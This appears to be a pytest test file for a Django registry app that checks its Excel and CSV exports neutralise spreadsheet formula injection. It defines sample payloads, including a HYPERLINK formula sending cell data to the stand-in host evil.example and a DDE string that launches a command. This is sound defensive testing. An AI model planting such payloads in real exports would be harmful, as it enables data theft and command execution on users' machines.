"""Issue 13, class 5: no spreadsheet this application writes holds a live formula. Text starting with ``=``,
``+``, ``-``, ``@``, tab or carriage return is written as text (Excel: string cell with the quote prefix;
CSV: a leading ``'``); numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass, field
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from giamngheo.accounts.roles import Role
from giamngheo.core.audit import log_action
from giamngheo.core.exports import csv_cell
from giamngheo.reviews.exports import movements_workbook
from giamngheo.reviews.ledger import ENTRIES, EXITS

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1"]


@pytest.fixture
def poisoned_trail(unit_tree, make_user):
    author = make_user(Role.COMMUNE_OFFICER, unit_tree.commune, username="=cmd")
    for payload in PAYLOADS:
        log_action(actor=author, action="giamngheo.household.created", object_type="household", object_id=payload,
                   object_repr=payload, unit_path=unit_tree.hamlet.path, changes={"head_name": [None, payload]})
    return author


def test_audit_excel_export_writes_formula_like_text_as_text(poisoned_trail, client_for):
    response = client_for(poisoned_trail).get(reverse("core:audit_export"), {"format": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(PAYLOADS)
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
        code, name = row[4], row[5]
        # XML turns a carriage return into a line feed on reading: compare with that in mind.
        assert code.value in [p.replace("\r", "\n") for p in PAYLOADS]
        assert code.data_type == "s" and code.quotePrefix
        assert name.value == code.value and name.data_type == "s" and name.quotePrefix
        assert row[1].value == "=cmd" and row[1].quotePrefix  # the actor's name


def test_audit_csv_export_prefixes_formula_like_text(poisoned_trail, client_for):
    response = client_for(poisoned_trail).get(reverse("core:audit_export"), {"format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert sorted(row[4] for row in rows[1:]) == sorted("'" + payload for payload in PAYLOADS)
    for row in rows[1:]:
        assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row), row


def test_csv_cell_keeps_numbers_and_ordinary_text():
    assert csv_cell(-5) == -5 and csv_cell(3.5) == 3.5 and csv_cell(None) is None
    assert csv_cell("Nguyễn Văn An") == "Nguyễn Văn An" and csv_cell("86001-000001") == "86001-000001"
    assert csv_cell("=1+1") == "'=1+1"


@dataclass
class Line:
    unit_code: str
    unit_name: str
    households: int
    counts: dict[str, int]
    start_rate: float = 0.0
    end_rate: float = 0.0
    ok: bool = True
    is_total: bool = False


@dataclass
class Table:
    """The fields of ``reviews.movements.MovementTable`` the workbook reads."""

    unit: Any
    year: int = 2025
    standard_title: str = "=chuẩn"
    lines_by_class: dict[str, list[Line]] = field(default_factory=dict)

    def lines(self, klass: str, area: str) -> list[Line]:
        return self.lines_by_class.get(klass, []) if area == "all" else []


def test_movements_workbook_writes_unit_names_as_text_and_numbers_as_numbers(unit_tree):
    unit_tree.commune.name = '=HYPERLINK("http://evil.example","Xã")'
    counts = {c: -1 for c in ("start", "end", "end_ethnic_minority", *EXITS["poor"], *ENTRIES["poor"],
                              *EXITS["near_poor"], *ENTRIES["near_poor"])}
    line = Line(unit_code="-86001", unit_name=unit_tree.commune.name, households=-3, counts=counts)
    table = Table(unit=unit_tree.commune, lines_by_class={"poor": [line], "near_poor": [line]})
    book = load_workbook(io.BytesIO(movements_workbook(table)))  # type: ignore[arg-type]
    for sheet in book.worksheets:
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert all(cell.data_type != "f" for cell in cells)
        assert sheet["A1"].value.endswith(unit_tree.commune.name)
        assert sheet["A2"].data_type == "s"
        [row] = [r for r in sheet.iter_rows(min_row=5) if r[2].value == unit_tree.commune.name]
        assert row[2].data_type == "s" and row[2].quotePrefix
        assert row[1].value == "-86001" and row[1].data_type == "s" and row[1].quotePrefix
        assert row[3].value == -3 and row[3].data_type == "n"
